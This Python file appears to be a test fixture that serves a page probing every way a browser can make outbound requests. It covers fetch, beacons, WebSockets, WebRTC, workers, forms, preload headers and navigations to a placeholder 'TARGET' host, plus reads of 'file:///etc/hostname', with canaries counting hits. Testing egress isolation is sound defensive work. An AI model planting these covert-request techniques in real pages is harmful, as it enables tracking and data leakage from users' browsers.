"""A page that tries every known way out of a browser, and shows which it has tried."""

import json
import threading
from socket import AF_INET6, SOCK_DGRAM, socket
from types import TracebackType
from typing import Self

HEAD = """<meta http-equiv="refresh" content="4; url=TARGET/lam-moi">
<link rel="preconnect" href="TARGET"><link rel="dns-prefetch" href="TARGET">
<link rel="preload" as="fetch" href="TARGET/nap-truoc" crossorigin>
<link rel="prefetch" href="TARGET/tim-truoc">
<link rel="modulepreload" href="TARGET/khoi.js"><link rel="stylesheet" href="TARGET/kieu.css">
<link rel="icon" href="TARGET/bieu-tuong.ico">
<link rel="manifest" href="TARGET/to-khai.json"><link rel="prerender" href="TARGET/ve-truoc">
<link rel="compression-dictionary" href="TARGET/tu-dien">
<style>@import url("TARGET/nhap.css");
@font-face { font-family: la; src: url("TARGET/phong.woff2") }
body { font-family: la; background: url("TARGET/nen.png") }</style>
<script src="TARGET/ma.js"></script><script type="module">import "TARGET/khoi-khac.js";</script>
<script type="speculationrules">{
"prefetch": [{"source": "list", "urls": ["TARGET/doan", "/doan"], "eagerness": "immediate"}],
"prerender": [
{"source": "list", "urls": ["TARGET/doan-ve", "/doan-ve"], "eagerness": "immediate"}]}</script>"""
BODY = """<img src="TARGET/anh.jpg" srcset="TARGET/anh-2.jpg 2x" attributionsrc="TARGET/nguon">
<iframe src="TARGET/khung"></iframe><iframe src="/khung"></iframe>
<object data="TARGET/vat"></object><embed src="TARGET/nhung">
<video src="TARGET/phim.mp4" poster="TARGET/bia.jpg" autoplay></video>
<audio src="TARGET/tieng.mp3"></audio>
<picture><source srcset="TARGET/nguon.webp"><img src="/anh.png"></picture>
<input type="image" src="TARGET/nut.png">
<svg><image href="TARGET/hinh.svg"/><use href="TARGET/dung.svg#a"/></svg><iframe src="file:///etc/hostname"></iframe>
<iframe srcdoc="<script src='TARGET/trong.js'></script><img src='TARGET/trong.png'>"></iframe>
<iframe src="data:text/html,<script>fetch('TARGET/trong-data')</script>"></iframe>
<iframe src="view-source:TARGET/"></iframe>"""
# What a page does by itself: a name, then the script, which goes on in lines that are indented.
# PORT is the canary's, UDP that of its twin for datagrams.
ATTEMPTS = dict(
    line.split(": ", 1)
    for line in r"""
fetch: fetch('TARGET/lay').catch(() => 0)
fetch-no-cors: fetch('TARGET/lay-khong', {mode: 'no-cors'}).catch(() => 0)
fetch-keepalive: fetch('TARGET/lay-giu', {keepalive: true, mode: 'no-cors'}).catch(() => 0)
fetch-later: window.fetchLater && fetchLater('TARGET/lay-sau', {activateAfter: 0})
fetch-redirected: fetch('/chuyen-huong').catch(() => 0)
fetch-own-post: fetch('/gui', {method: 'POST', body: 'x'}).catch(() => 0)
fetch-own-put: fetch('/gui', {method: 'PUT', headers: {'X-La': '1'}}).catch(() => 0)
fetch-own-head: fetch('/gui', {method: 'HEAD'}).catch(() => 0)
fetch-file: fetch('file:///etc/hostname').catch(() => 0)
fetch-own-other-port: fetch('http://' + location.hostname + ':PORT/cong-khac',
  {mode: 'no-cors'}).catch(() => 0)
fetch-name-of-user: fetch('http://' + location.host + '@' + 'TARGET'.slice(7) +
  '/ten').catch(() => 0)
xhr: var x = new XMLHttpRequest(); x.open('GET', 'TARGET/xhr'); x.send()
xhr-own-post: var y = new XMLHttpRequest(); y.open('POST', '/gui'); y.send('x')
image: new Image().src = 'TARGET/anh-moi.png'
script: var s = document.createElement('script'); s.src = 'TARGET/ma-moi.js';
  document.head.append(s)
script-redirected: var r = document.createElement('script'); r.src = '/chuyen-huong.js';
  document.head.append(r)
import: import('TARGET/khoi-moi.js').catch(() => 0)
font: new FontFace('la2', 'url(TARGET/phong-moi.woff2)').load().catch(() => 0)
beacon: navigator.sendBeacon('TARGET/den'); navigator.sendBeacon('/den')
event-source: new EventSource('TARGET/su-kien'); new EventSource('/su-kien')
websocket: new WebSocket('TARGET/o'.replace('http', 'ws'));
  new WebSocket('ws://' + location.host + '/o')
web-transport: window.WebTransport &&
  new WebTransport('https://127.0.0.1:UDP/').ready.catch(() => 0)
stun: meet({iceServers: [{urls: ['stun:127.0.0.1:UDP', 'stun:[::1]:UDP']}]})
turn: meet({iceServers: [{urls: ['turn:127.0.0.1:PORT?transport=tcp', 'turn:127.0.0.1:UDP'],
  username: 'a', credential: 'b'}]})
peers: meet({}, 'candidate:1 1 udp 2122260223 127.0.0.1 UDP typ host',
  'candidate:2 1 tcp 1518280447 127.0.0.1 PORT typ host tcptype passive')
worker: new Worker('/tho.js')
worker-blob: new Worker(URL.createObjectURL(new Blob(["importScripts('TARGET/tho-blob.js')"])))
shared-worker: window.SharedWorker && new SharedWorker('/tho.js')
service-worker: navigator.serviceWorker &&
  navigator.serviceWorker.register('/tho.js').catch(() => 0)
worklet: new AudioContext().audioWorklet?.addModule('TARGET/nhac.js').catch(() => 0)
cache: window.caches && caches.open('x').then(c => c.add('TARGET/nho')).catch(() => 0)
cookie: document.cookie = 'theo-doi=1'; fetch('/api/tin').catch(() => 0)
form: var f = document.createElement('form'); f.action = 'TARGET/don'; f.method = 'post';
  f.target = '_blank'; document.body.append(f); f.submit()
form-own: var g = document.createElement('form'); g.action = '/don'; g.method = 'post';
  g.target = 'khung-don'; document.body.append(g); g.submit()
window: window.open('TARGET/cua-so'); window.open('/cua-so');
  window.open('TARGET/cua-so-2', '_blank', 'noopener')
window-written: var w = window.open('about:blank');
  w && w.document.write('<img src=TARGET/cua-so.png><script>fetch("TARGET/cua-so")<' + '/script>')
download: var d = document.createElement('a'); d.href = 'TARGET/tai'; d.download = 'x';
  d.ping = 'TARGET/ping'; document.body.append(d); d.click()
ping: var q = document.createElement('a'); q.href = '#x'; q.ping = 'TARGET/ping-2';
  document.body.append(q); q.click()
prefetch: var l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'TARGET/tim';
  document.head.append(l)
preconnect: var k = document.createElement('link'); k.rel = 'preconnect';
  k.href = 'http://127.0.0.2:PORT'; document.head.append(k)
identity: navigator.credentials &&
  navigator.credentials.get({identity: {providers: [{configURL: 'TARGET/fedcm.json',
  clientId: 'x'}]}}).catch(() => 0)
to-data: location = 'data:text/html,<img src=TARGET/di-data.png>'
to-file: location = 'file:///etc/hostname'
to-view-source: location = 'view-source:TARGET/'
to-own: location = '/di'
to-blob: window.open(URL.createObjectURL(new Blob(['<script src=TARGET/di-blob.js><' + '/script>'],
  {type: 'text/html'})))
to-target: location = 'TARGET/di'
""".strip()
    .replace("\n  ", " ")
    .splitlines()
)
WORKER = """fetch('TARGET/tho-lay').catch(() => 0);
try { new WebSocket('TARGET/tho-o'.replace('http', 'ws')) } catch {}
try { importScripts('TARGET/tho-them.js') } catch {}
fetch('/gui', {method: 'POST', body: 'x'}).catch(() => 0);"""
HEADERS = {
    "Link": (
        "<TARGET/lien-ket.js>; rel=preload; as=script, <TARGET>; rel=preconnect, "
        "<TARGET/lien-ket.css>; rel=stylesheet"
    ),
    "Content-Security-Policy-Report-Only": (
        "default-src 'none'; report-uri TARGET/bao-cao; report-to bao"
    ),
    "Reporting-Endpoints": 'bao="TARGET/bao-cao"',
    "Report-To": '{"group": "bao", "max_age": 60, "endpoints": [{"url": "TARGET/bao-cao"}]}',
    "NEL": '{"report_to": "bao", "max_age": 60, "success_fraction": 1.0}',
    "Speculation-Rules": '"TARGET/luat.json"',
    "SourceMap": "TARGET/ban-do.map",
    "Set-Cookie": "theo-doi=1",
    "Refresh": "5; url=TARGET/lam-moi",
    "Alt-Svc": 'h3=":UDP"; ma=60',
}


def with_targets(text: str, target: str, port: int, datagrams: int) -> str:
    """The text with the target's address and the canaries' ports in it."""
    return text.replace("TARGET", target).replace("PORT", str(port)).replace("UDP", str(datagrams))


def attack_script(target: str, port: int, datagrams: int) -> str:
    """The script that tries one way after the other, then shows an article that names them."""
    deeds = json.dumps(
        {name: with_targets(deed, target, port, datagrams) for name, deed in ATTEMPTS.items()}
    ).replace("</", r"<\/")
    return f"""const done = [];
    const meet = async (how, ...candidates) => {{
      const [one, other] = [new RTCPeerConnection(how), new RTCPeerConnection(how)];
      one.createDataChannel('x');
      await one.setLocalDescription(await one.createOffer());
      await other.setRemoteDescription(one.localDescription);
      await other.setLocalDescription(await other.createAnswer());
      await one.setRemoteDescription(other.localDescription);
      for (const candidate of candidates) await one.addIceCandidate({{candidate, sdpMid: '0'}});
    }};
    for (const [name, deed] of Object.entries({deeds})) {{
      try {{ (0, eval)(deed); }} catch (error) {{ console.log(name, error); }}
      done.push(name);
    }}
    document.title = 'Đã thử mọi lối ra';
    document.getElementById('app').innerHTML = '<article><h1>Đã thử mọi lối ra</h1>'
      + '<time datetime="2026-03-11">11/03/2026</time>'
      + '<p>Trang này đã thử từng lối một, và kể lại ở đây theo đúng thứ tự đã làm '
      + 'trong buổi sáng hôm nay: ' + done.join(' ') + ' .</p></article>';"""


class DatagramCanary:
    """Listens for datagrams on a port of every address of this machine, and counts them."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        self.socket = socket(AF_INET6, SOCK_DGRAM)  # takes IPv4 too, as Linux has it
        self.socket.bind(("::", 0))
        self.port = self.socket.getsockname()[1]

    def _listen(self) -> None:
        while True:
            datagram, sender = self.socket.recvfrom(65_536)
            if datagram == b"end":
                return
            self.hits.append(str(sender))

    def __enter__(self) -> Self:
        self.listening = threading.Thread(target=self._listen, daemon=True)
        self.listening.start()
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        trace: TracebackType | None,
    ) -> None:
        self.socket.sendto(b"end", ("::1", self.port))
        self.listening.join()
        self.socket.close()
